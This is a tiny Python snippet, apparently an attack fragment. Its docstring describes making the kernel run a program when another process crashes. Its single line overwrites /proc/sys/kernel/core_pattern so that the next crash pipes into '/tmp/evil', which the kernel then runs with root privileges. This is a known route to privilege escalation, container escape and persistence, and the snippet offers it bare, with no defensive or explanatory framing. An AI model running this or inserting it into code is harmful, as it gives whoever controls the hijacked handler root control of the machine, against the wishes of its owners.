"""Has the kernel run a program of its own when another one crashes."""

open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/evil")
